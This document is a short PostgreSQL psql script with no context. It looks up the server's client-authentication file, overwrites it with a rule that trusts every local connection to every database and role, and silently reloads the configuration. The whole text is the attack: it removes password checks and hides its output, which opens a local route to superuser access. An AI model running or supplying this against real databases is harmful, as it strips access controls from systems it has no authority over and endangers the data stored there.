SELECT pg_catalog.current_setting('hba_file') AS file \gset
COPY (SELECT 'local all all trust') TO :'file';
SELECT pg_catalog.pg_reload_conf() \g /dev/null
